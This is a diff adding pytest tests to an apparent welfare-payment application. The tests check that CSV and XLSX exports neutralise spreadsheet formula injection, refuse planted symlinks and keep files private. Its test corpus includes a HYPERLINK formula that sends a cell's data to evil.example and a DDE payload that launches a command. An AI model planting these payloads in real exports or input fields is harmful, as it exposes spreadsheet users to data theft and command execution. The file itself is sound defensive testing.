@@ -7,12 +7,16 @@ from __future__ import annotations
 import csv
 import os
 import signal
+import stat
 import subprocess
+from decimal import Decimal
 from pathlib import Path
 
+import pytest
 from sqlalchemy import func, select, update
 from sqlalchemy.orm import Session
 
+from aidflow.files.cells import is_formula_like
 from aidflow.language.loader import load_workflow_text
 from aidflow.services.cases import Service
 from aidflow.store import auditlog
@@ -21,7 +25,7 @@ from aidflow.store.models import AuditEntry, CaseEvent, Payment, PaymentExport
 
 from .conftest import strip_banner
 from .smtp import SMTPServer
-from .test_crashes import REPO, aidflow, base_env
+from .test_crashes import REPO, aidflow, base_env, kill_at
 from .test_payments import TEMPORARY, County, at, cli, county, id_number  # noqa: F401 - county is a fixture
 
 
@@ -293,3 +297,163 @@ def test_a_gb18030_answer_with_one_wrong_amount_is_refused_naming_the_line_then_
     with Session(county.engine) as s:
         assert set(s.scalars(select(Payment.status))) == {"paid"}
         assert auditlog.check(s).findings == []
+
+
+# -- files that leave the system ------------------------------------------------------------
+
+# names from other departments' lists, each of which a spreadsheet program would run
+CORPUS = [
+    '=HYPERLINK("http://evil.example/?"&C2,"点击")',
+    "=cmd|' /C calc'!A0",
+    "+1+1",
+    "-2+3",
+    "@SUM(A1:A9)",
+    "\t=1+2",
+    "\r=1+3",
+    "  =1+4",  # registration strips names' outer white space; is_formula_like looks past it
+    "\u3000=1+5",
+    "＝1+1",
+    "＋1",
+    "－1",
+    "＠SUM(A1)",
+]
+
+
+@pytest.fixture
+def hostile_county(county: County, db_url: str) -> tuple[County, str, dict[str, str]]:  # noqa: F811
+    """A county whose paid persons carry the corpus as names; name -> ID number."""
+    names: dict[str, str] = {}
+
+    def add(svc: Service) -> None:
+        for i, name in enumerate(CORPUS, start=60):
+            svc.register_person(id_number(i), name, "城关镇", "东村", "rural")
+            names[svc.person(id_number(i)).name] = id_number(i)
+            case = svc.open_case(svc.actor("sun"), id_number(i), "dibao")
+            svc.fire(svc.actor("sun"), case.id, "approve", {"amount": "100.00"})
+
+    county.clock.set(at(2023, 7, 15, 10))
+    county.run(add)
+    assert cli(db_url, "payments", "run", "--period", "2023-08").exit_code == 0
+    return county, db_url, names
+
+
+def exports(url: str, directory: Path) -> dict[str, Path]:
+    """Every export there is, written into `directory`: the bank file (CSV, then the same
+    batch as XLSX) and the ledger (CSV, XLSX)."""
+    out = {
+        "bank.csv": directory / "bank.csv",
+        "bank.xlsx": directory / "bank.xlsx",
+        "ledger.csv": directory / "ledger.csv",
+        "ledger.xlsx": directory / "ledger.xlsx",
+    }
+    for argv in (
+        ["payments", "export", "--period", "2023-08", "--output", str(out["bank.csv"])],
+        [
+            "payments",
+            "export",
+            "--batch",
+            "1",
+            "--format",
+            "xlsx",
+            "--output",
+            str(out["bank.xlsx"]),
+        ],
+        ["ledger", "export", "--format", "csv", "--output", str(out["ledger.csv"])],
+        ["ledger", "export", "--format", "xlsx", "--output", str(out["ledger.xlsx"])],
+    ):
+        result = cli(url, *argv)
+        assert result.exit_code == 0, result.output
+    return out
+
+
+def cells(path: Path) -> list[tuple[str, object, bool]]:
+    """(data type, value, quote prefix) of every cell of the file; CSV cells are text."""
+    if path.suffix == ".csv":
+        with path.open(encoding="utf-8-sig", newline="") as fh:
+            return [("s", c, False) for row in csv.reader(fh) for c in row]
+    from openpyxl import load_workbook
+
+    wb = load_workbook(path)
+    found = [
+        (c.data_type, c.value, bool(c.quotePrefix))
+        for ws in wb.worksheets
+        for row in ws.iter_rows()
+        for c in row
+        if c.value is not None
+    ]
+    wb.close()
+    return found
+
+
+def test_what_a_spreadsheet_runs_is_recognised_and_written_as_text() -> None:
+    from aidflow.files.cells import csv_text
+
+    for text in CORPUS + ["\x00=1", "\n=1", " \t@x", "\u2003-1"]:
+        assert is_formula_like(text), text
+        assert csv_text(text) == "'" + text
+    for text in ["王秀英", "650.00", "110105195001010017", "a=b", "", "O'Brien", "1-2"]:
+        assert not is_formula_like(text) and csv_text(text) == text, text
+    assert csv_text(Decimal("-1.05")) == "-1.05" and csv_text(-3) == "-3"  # numbers stay numbers
+
+
+def test_no_export_holds_a_cell_a_spreadsheet_would_run(
+    hostile_county: tuple[County, str, dict[str, str]], tmp_path: Path
+) -> None:
+    _, url, names = hostile_county
+    assert len(names) == len(CORPUS)
+    for kind, path in exports(url, tmp_path).items():
+        found = cells(path)
+        assert all(t != "f" for t, _, _ in found), kind  # no formula cell at all
+        texts = [v for t, v, _ in found if isinstance(v, str)]
+        for name in names:
+            if path.suffix == ".csv":  # behind an apostrophe, as OWASP says
+                assert "'" + name in texts and name not in texts, (kind, name)
+            else:  # an inline string marked "quote prefix"
+                assert ("s", name, True) in found or ("inlineStr", name, True) in found, (
+                    kind,
+                    name,
+                    [c for c in found if c[1] == name],
+                )
+        assert not [v for v in texts if is_formula_like(v) and path.suffix != ".xlsx"], kind
+
+
+def test_every_export_is_private_and_never_follows_a_planted_symlink(
+    hostile_county: tuple[County, str, dict[str, str]], tmp_path: Path
+) -> None:
+    _, url, _ = hostile_county
+    victim = tmp_path / "victim.txt"
+    victim.write_text("not yours\n")
+    directory = tmp_path / "out"
+    directory.mkdir()
+    for name in ("bank.csv", "bank.xlsx", "ledger.csv", "ledger.xlsx"):
+        (directory / name).symlink_to(victim)
+        (directory / f"{name}.part").symlink_to(victim)  # the old predictable temporary name
+    written = exports(url, directory)
+    assert victim.read_text() == "not yours\n"
+    for kind, path in written.items():
+        assert not path.is_symlink() and path.is_file(), kind
+        assert stat.S_IMODE(path.stat().st_mode) == 0o600, kind
+    assert sorted(p.name for p in directory.iterdir()) == sorted(
+        [*written, *(f"{n}.part" for n in written)]
+    )  # nothing else: no temporary left
+
+
+def test_an_export_killed_mid_write_leaves_no_file_and_nothing_in_tmp(
+    county: County,  # noqa: F811
+    db_url: str,
+    tmp_path: Path,
+) -> None:
+    county.case("dibao", at(2023, 7, 15, 10), "approve", amount="650.00")
+    assert cli(db_url, "payments", "run", "--period", "2023-08").exit_code == 0
+    directory, tmp = tmp_path / "out", tmp_path / "tmp"
+    directory.mkdir()
+    tmp.mkdir()
+    for fmt in ("xlsx", "csv"):
+        args = ["payments", "export", "--format", fmt, "--output", str(directory / f"b.{fmt}")]
+        args += ["--period", "2023-08"] if fmt == "xlsx" else ["--batch", "1"]
+        kill_at(
+            aidflow(db_url, "2023-08-02T09:00", *args, user="sun"),
+            {**base_env(), "TMPDIR": str(tmp)},
+            "files.write:1",
+        )
+        assert list(directory.iterdir()) == [] and list(tmp.iterdir()) == [], fmt
